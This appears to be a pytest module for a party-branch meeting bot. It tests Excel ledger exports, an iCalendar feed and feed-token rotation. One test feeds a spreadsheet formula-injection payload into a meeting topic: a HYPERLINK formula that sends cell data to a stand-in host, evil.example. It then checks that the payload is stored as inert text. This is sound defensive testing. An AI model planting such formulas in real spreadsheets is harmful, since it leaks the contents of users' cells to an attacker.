"""The ledger read back with openpyxl, the iCalendar file parsed back, and the feed token."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, datetime, timedelta
from io import BytesIO
from pathlib import Path

import pytest
from icalendar import Calendar
from openpyxl import load_workbook
from sqlalchemy import Engine
from typer.testing import CliRunner

from bot.cli import app
from bot.core.clock import SHANGHAI
from handlers import calendar_feed, ledger
from storage.calendar_feeds import org_for_token, token_for
from storage.db import session_scope
from storage.models import Organization
from tests.fakes.clock import FakeClock
from tests.workflows.conftest import Chat

runner = CliRunner()


@pytest.fixture
def clock() -> FakeClock:
    """This module replays November from its first day."""
    return FakeClock(datetime(2026, 11, 1, 9, 0, tzinfo=SHANGHAI))


@pytest.fixture
def year_of_meetings(chat_as: Callable[..., Chat], clock: FakeClock) -> None:
    """Meetings held in November 2026 with attendance, plus a cancelled one and a planned one in December."""
    secretary = chat_as("王书记")
    secretary.say("安排 支委会 11月3日 15:00 三楼会议室 主题：研究发展党员")
    secretary.say("安排 支部党员大会 11月5日 15:00 大会议室 主题：讨论接收预备党员")
    secretary.say("安排 主题党日 11月6日 下午2点半 社区 主题：学习全会精神")
    secretary.say("安排 党课 11月20日 15:00 主题：党章学习")
    chat_as("李四").say("请假 支部党员大会 出差在外")
    clock.set(datetime(2026, 11, 3, 15, 0, tzinfo=SHANGHAI))
    for name in ("王书记", "刘组织"):
        chat_as(name).say("签到")
    clock.set(datetime(2026, 11, 5, 15, 0, tzinfo=SHANGHAI))
    for name in ("王书记", "刘组织"):
        chat_as(name).say("签到")
    secretary.say("标记缺席 张三 无故未到")
    clock.set(datetime(2026, 11, 19, 9, 0, tzinfo=SHANGHAI))
    secretary.say("取消 党课")
    clock.set(datetime(2026, 11, 23, 9, 30, tzinfo=SHANGHAI))
    secretary.say("安排 党课 12月10日 15:00 主题：全会精神宣讲")


def _book(engine: Engine, district: dict[str, int], now: datetime) -> bytes:
    with session_scope(engine) as session:
        org = session.get(Organization, district["第一党支部"])
        assert org is not None
        return ledger.build(session, org=org, year=2026, now=now)


def test_ledger_cells(engine: Engine, district: dict[str, int], year_of_meetings: None) -> None:
    book = load_workbook(BytesIO(_book(engine, district, datetime(2026, 11, 23, 9, 30, tzinfo=SHANGHAI))))
    assert book.sheetnames[:6] == ["完成情况", "支部党员大会", "支委会", "党小组会", "党课", "主题党日"]
    assembly = book["支部党员大会"]
    header = [c.value for c in assembly[1]]
    assert header[:5] == ["日期", "时间", "主题", "地点", "状态"]
    row = [c.value for c in assembly[2]]
    assert row[0].date() == date(2026, 11, 5) and row[1] == "15:00"
    assert row[2:5] == ["讨论接收预备党员", "大会议室", "已召开"]
    assert row[5:8] == [5, 2, "王书记、刘组织"]
    assert row[8] == "李四（出差在外）"
    assert row[9] == "张三（无故未到）、赵五（未签到）"
    assert "未超过半数" in row[10]  # 2 of 4 voters
    committee = [c.value for c in book["支委会"][2]]
    assert committee[5:7] == [2, 2] and not committee[10]
    lectures = [[c.value for c in r] for r in book["党课"].iter_rows(min_row=2)]
    assert [r[4] for r in lectures] == ["已取消", "计划"]
    assert lectures[1][5] is None  # no attendance for a meeting not yet held


def _rows(sheet: object) -> dict[str, tuple[object, ...]]:
    """Summary rows by their first cell, without the empty cells a shorter row leaves at its end."""
    rows: dict[str, tuple[object, ...]] = {}
    for values in sheet.iter_rows(values_only=True):  # type: ignore[attr-defined]
        trimmed = list(values)
        while trimmed and trimmed[-1] is None:
            trimmed.pop()
        if trimmed:
            rows[str(trimmed[0])] = tuple(trimmed[1:])
    return rows


def test_ledger_summary_checks_frequencies(
    engine: Engine, district: dict[str, int], year_of_meetings: None
) -> None:
    summary = load_workbook(BytesIO(_book(engine, district, datetime(2027, 1, 2, 9, tzinfo=SHANGHAI))))[
        "完成情况"
    ]
    rows = _rows(summary)
    assert "第一党支部2026年三会一课完成情况" in next(iter(rows))
    assert rows["11月"] == (1, "无党小组", 1, "达标")
    assert rows["10月"][-1] == "未达标：支委会、主题党日"
    assert rows["12月"][-1] == "未达标：支委会、主题党日"
    assert rows["第四季度"][:3] == (1, 1, "达标")  # 党课 on 12月10日 counts once it has happened
    assert rows["第一季度"][-1] == "未达标：支部党员大会、党课"


def test_ledger_marks_the_current_period_in_progress(
    engine: Engine, district: dict[str, int], year_of_meetings: None
) -> None:
    summary = load_workbook(BytesIO(_book(engine, district, datetime(2026, 11, 23, 9, 30, tzinfo=SHANGHAI))))[
        "完成情况"
    ]
    rows = _rows(summary)
    assert rows["第四季度"][-1] == "进行中"  # 党课 not held yet, but the quarter is not over
    assert rows["12月"][-1] == "—"


def test_cli_ledger_writes_the_file(cli_env: Path, district: dict[str, int], year_of_meetings: None) -> None:
    result = runner.invoke(app, ["export", "ledger", "--org", "第一党支部", "--year", "2026"])
    assert result.exit_code == 0, result.output
    written = cli_env / "第一党支部-2026-三会一课台账.xlsx"
    assert load_workbook(written)["支委会"]["C2"].value == "研究发展党员"


def test_cli_ledger_of_a_committee_has_a_sheet_per_branch(
    cli_env: Path, district: dict[str, int], year_of_meetings: None
) -> None:
    result = runner.invoke(app, ["export", "ledger", "--org", "某街道党工委", "--year", "2026"])
    assert result.exit_code == 0, result.output
    book = load_workbook(cli_env / "某街道党工委-2026-三会一课台账.xlsx")
    assert book.sheetnames == ["第一党支部", "第二党支部"]
    first = [row for row in book["第一党支部"].values if any(row)]
    assert str(first[0][0]).startswith("第一党支部2026年三会一课完成情况")
    assert any("研究发展党员" in row for row in first)  # its 支委会, listed with the kind


def test_ics_parses_back(engine: Engine, district: dict[str, int], year_of_meetings: None) -> None:
    with session_scope(engine) as session:
        org = session.get(Organization, district["第一党支部"])
        assert org is not None
        data = calendar_feed.build(session, org=org, now=datetime(2026, 11, 23, 9, 30, tzinfo=SHANGHAI))
    calendar = Calendar.from_ical(data)
    assert "第一党支部会议" in str(calendar["X-WR-CALNAME"])
    events = {str(e["SUMMARY"]): e for e in calendar.walk("VEVENT")}
    assert set(events) == {"党课：党章学习", "党课：全会精神宣讲"}  # last week's and upcoming, not older ones
    upcoming = events["党课：全会精神宣讲"]
    assert upcoming.decoded("DTSTART") == datetime(2026, 12, 10, 15, tzinfo=SHANGHAI)
    assert upcoming.decoded("DTEND") - upcoming.decoded("DTSTART") == timedelta(hours=2)
    assert str(events["党课：党章学习"]["STATUS"]) == "CANCELLED"


def test_cli_ics_and_url(
    cli_env: Path, district: dict[str, int], engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = runner.invoke(app, ["export", "ics", "--org", "第一党支部", "--out", "feed.ics"])
    assert result.exit_code == 0, result.output
    assert Calendar.from_ical((cli_env / "feed.ics").read_bytes())["VERSION"] == "2.0"
    monkeypatch.setenv("ZHIBU_PUBLIC_URL", "https://zhibu.example.org/")
    first = runner.invoke(app, ["export", "ics", "--org", "第一党支部", "--url"]).output.strip()
    again = runner.invoke(app, ["export", "ics", "--org", "第一党支部", "--url"]).output.strip()
    assert (
        first == again and first.startswith("https://zhibu.example.org/calendar/") and first.endswith(".ics")
    )
    rotated = runner.invoke(app, ["export", "ics", "--org", "第一党支部", "--rotate"]).output.strip()
    assert rotated != first
    assert "rotate_feed" in runner.invoke(app, ["audit"], terminal_width=200).output
    token = rotated.rsplit("/", 1)[1].removesuffix(".ics")
    with session_scope(engine) as session:
        org = org_for_token(session, token)
        assert org is not None and org.name == "第一党支部"
        assert org_for_token(session, first.rsplit("/", 1)[1].removesuffix(".ics")) is None


def test_feed_tokens_are_long_and_distinct(engine: Engine, district: dict[str, int]) -> None:
    now = datetime(2026, 11, 23, tzinfo=SHANGHAI)
    with session_scope(engine) as session:
        one = token_for(session, org_id=district["第一党支部"], now=now)
        two = token_for(session, org_id=district["第二党支部"], now=now)
        assert one != two and len(one) >= 32
        assert org_for_token(session, "") is None and org_for_token(session, "x" * 100) is None


def test_text_that_looks_like_a_formula_is_exported_as_text(
    chat_as: Callable[..., Chat], engine: Engine, district: dict[str, int], clock: FakeClock
) -> None:
    topic = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    chat_as("王书记").say(f"安排 支委会 11月3日 15:00 @SUM(1+1) 主题：{topic}")
    book = load_workbook(BytesIO(_book(engine, district, clock.now() + timedelta(days=10))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_text = {c.value: c for c in cells if isinstance(c.value, str)}
    assert topic in by_text and "@SUM(1+1)" in by_text
    assert by_text[topic].quotePrefix and by_text["@SUM(1+1)"].quotePrefix
